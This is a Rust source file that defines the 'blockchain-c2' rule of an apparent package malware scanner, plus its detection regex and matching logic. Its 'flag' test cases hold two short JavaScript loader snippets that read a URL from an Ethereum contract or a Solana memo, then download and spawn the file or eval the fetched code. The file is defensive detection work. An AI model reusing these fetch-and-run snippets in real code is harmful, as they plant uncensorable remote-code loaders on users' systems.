//! Rule `blockchain-c2`.

use crate::model::Severity;
use crate::package::Package;
use crate::rules::{Emitter, all_text, code_files, is_doc_path};

crate::declare_rule! {
    /// A blockchain used as a dead drop for commands: the code reads a smart contract
    /// (`eth_call`, an ethers/web3 contract call) or a transaction's memo or logs
    /// (`getSignaturesForAddress`, `getTransaction`) and, in the same file, runs code or programs
    /// (eval, Function, vm, child_process). Nobody can take such a C2 address down. Contract
    /// readers that only return data (ENS, balances, NFT metadata) are not flagged.
    id: "blockchain-c2",
    category: Network,
    severity: Critical,
    capability: Some(crate::model::Capability::Network),
    title: "reads commands or download addresses from a blockchain and runs them",
    incident: "EtherHiding (2023-2025) and jest-fet-mock (2024) read C2 URLs from Ethereum contracts; GlassWorm (2025) from Solana memos",
    case_file: "index.js",
    flag: ["const c = new ethers.Contract(A, ABI, p); const u = await c.getString(o); https.get(u, r => { r.pipe(f); f.on('finish', () => require('child_process').spawn(dst, [], { detached: true })) })",
           "const t = await rpc('getTransaction', [sig]); const link = memo(t); https.get(link, r => { let c = ''; r.on('data', d => c += d); r.on('end', () => eval(c)) })"],
    pass: ["const resolver = await provider.getResolver(name); const hash = await resolver.getContentHash(); return (await fetch(gw + hash)).text()",
           "const c = new ethers.Contract(A, ABI, p); const bal = await c.balanceOf(me); console.log(bal)"],
}

fn check(pkg: &Package, out: &mut Emitter) {
    let chain = crate::regex!(
        r"eth_call|new\s+(ethers\.)?Contract\(|\.methods\.\w+\([^)]*\)\.call\(|getSignaturesForAddress|['\x22`]getTransaction['\x22`]|getParsedTransaction|eth_getTransactionByHash|eth_getLogs"
    );
    for f in code_files(pkg) {
        if is_doc_path(&f.path) {
            continue;
        }
        let Some(js) = &f.js else { continue };
        let text = all_text(f);
        if !crate::mentions!(
            text,
            [
                "eth_call",
                "contract(",
                ".call(",
                "getsignaturesforaddress",
                "gettransaction",
                "eth_get"
            ]
        ) {
            continue;
        }
        let Some(m) = chain.find(text) else { continue };
        let runs = js.calls.iter().find(|c| {
            crate::rules::exec::is_spawn(&c.path)
                || matches!(
                    c.path.as_str(),
                    "eval"
                        | "Function"
                        | "vm.runInThisContext"
                        | "vm.runInNewContext"
                        | "vm.Script"
                ) && c.args.first().is_some_and(|a| !a.plain)
        });
        let Some(run) = runs else { continue };
        if !crate::rules::data::has_network(f) {
            continue;
        }
        let off = f.text_off(m.start(), run.off);
        out.hit_sev(
            Severity::Critical,
            pkg,
            f,
            off,
            format!(
                "reads data from a blockchain and runs code or programs ({}) in the same file",
                run.path
            ),
        );
    }
}
